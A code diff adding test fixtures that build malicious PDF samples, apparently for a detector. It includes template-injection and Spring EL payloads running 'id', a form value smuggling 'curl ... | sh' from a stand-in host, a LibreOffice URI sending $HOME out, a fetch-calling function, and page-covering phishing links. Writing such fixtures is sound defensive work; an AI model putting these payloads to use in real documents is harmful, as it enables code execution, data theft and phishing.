@@ -195,6 +195,25 @@ export const CORE_FIXTURES: TechniqueFixtures = {
       ]),
     "xmp-parameter-entity": () =>
       withXmp("", `<!DOCTYPE x:xmpmeta [<!ENTITY % ext SYSTEM "https://logs.example/evil.dtd"> %ext;]>`),
+    // for a report generator that renders the title through Jinja2
+    "info-title-ssti": () =>
+      withInfo(
+        `/Title ${hexString("{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}")}`,
+      ),
+    "xmp-spring-el": () =>
+      withXmp(
+        `<dc:creator><rdf:Seq><rdf:li>\${T(java.lang.Runtime).getRuntime().exec('id')}</rdf:li></rdf:Seq></dc:creator>`,
+      ),
+    // for a conversion script that puts the author into a command line
+    "form-value-shell": () =>
+      built({
+        setup(b) {
+          const field = b.add(
+            `<< /Type /Annot /Subtype /Widget /FT /Tx /T (company) /Rect [72 600 300 620] /V ${hexString("ACME; curl -s https://logs.example/x.sh | sh")} >>`,
+          );
+          return { catalog: `/AcroForm << /Fields [${field} 0 R] >>`, page: `/Annots [${field} 0 R]` };
+        },
+      }),
   },
   "pdf-injection": {
     "uri-becomes-javascript": () =>
@@ -254,6 +273,17 @@ export const CORE_FIXTURES: TechniqueFixtures = {
           ),
         ],
       }),
+    // a PDF opened or converted by LibreOffice: the macro runs, or the environment travels in the address
+    "uri-libreoffice-script": () =>
+      built({
+        annots: [
+          linkAnnot(
+            `<< /S /URI /URI ${hexString("vnd.sun.star.script:Standard.Module1.Main?language=Basic&location=application")} >>`,
+          ),
+        ],
+      }),
+    "uri-libreoffice-expand": () =>
+      built(openAction(`<< /S /URI /URI ${hexString("vnd.sun.star.expand:https://collect.example/c?h=${HOME}")} >>`)),
   },
   "script-on-open": {
     "open-action": () => built(openAction(scriptAction(TIMER_SCRIPT))),
@@ -399,6 +429,30 @@ export const CORE_FIXTURES: TechniqueFixtures = {
         page: "/Resources << /Font << /F2 << /Type /Font /Subtype /Type1 /BaseFont /Fixture /FontMatrix [1 0 0 1 0 (1\\); alert\\(1\\)//)] >> >> >>",
       }),
   },
+  "calculator-function-injection": {
+    // an image's Separation tint transform whose program is a call (malicious-pdf test40)
+    "tint-transform-program": () =>
+      built({
+        setup(b) {
+          const fn = b.addStream("/FunctionType 4 /Domain [0 1] /Range [0 1]", '{ fetch("https://track.example/ps") }');
+          const image = b.addStream(
+            `/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace [/Separation /All /DeviceGray ${fn} 0 R]`,
+            "\x80",
+          );
+          return { page: `/Resources << /XObject << /Im0 ${image} 0 R >> >>` };
+        },
+      }),
+    // a string where a bound belongs: compiled into the function's source (CVE-2018-5158)
+    "shading-function-range": () =>
+      built({
+        setup(b) {
+          const fn = b.addStream("/FunctionType 4 /Domain [0 1] /Range [0 (1\\); alert\\(1\\)//)]", "{ dup }");
+          return {
+            page: `/Resources << /Shading << /Sh0 << /ShadingType 2 /ColorSpace /DeviceGray /Coords [0 0 1 0] /Function ${fn} 0 R >> >> >>`,
+          };
+        },
+      }),
+  },
   "image-codec-exploit": {
     "xfa-tiff": () => built(xfaForm(xfaImageXml(tiff([...PLAIN_TIFF_TAGS, DOT_RANGE_OVERFLOW], { sled: 256 })))),
     "xfa-bmp": () => xfaWithImage(exploitBmp()),
@@ -443,6 +497,23 @@ export const CORE_FIXTURES: TechniqueFixtures = {
     "image-page-link": () => pictureWithLink("https://secure-doc-view.000webhostapp.com/adobe/index.php"),
     "text-link": () =>
       built({ annots: [linkAnnot("<< /S /URI /URI (https://secure-login.account-verify.example.com/session) >>")] }),
+    // a link over the whole page that imports data from a web address (PDF101's data-link test)
+    "page-covering-remote-import": () =>
+      built({
+        annots: [
+          linkAnnot("<< /S /ImportData /F << /FS /URL /F (https://collect.example/data.fdf) >> >>", "0 0 612 792"),
+        ],
+      }),
+    // a button over the whole page whose script opens the page: any click is the link (PortSwigger's PDFium button)
+    "page-covering-button": () =>
+      built({
+        setup(b) {
+          const field = b.add(
+            `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (view) /Rect [0 0 612 792] /A ${scriptAction('app.launchURL("https://secure-doc-view.example.net/open", true);')} >>`,
+          );
+          return { catalog: `/AcroForm << /Fields [${field} 0 R] >>`, page: `/Annots [${field} 0 R]` };
+        },
+      }),
   },
   "malware-download-link": {
     "image-page-link": () => pictureWithLink("https://www.dropbox.com/s/k3x9/Invoice_0423.zip?dl=1"),
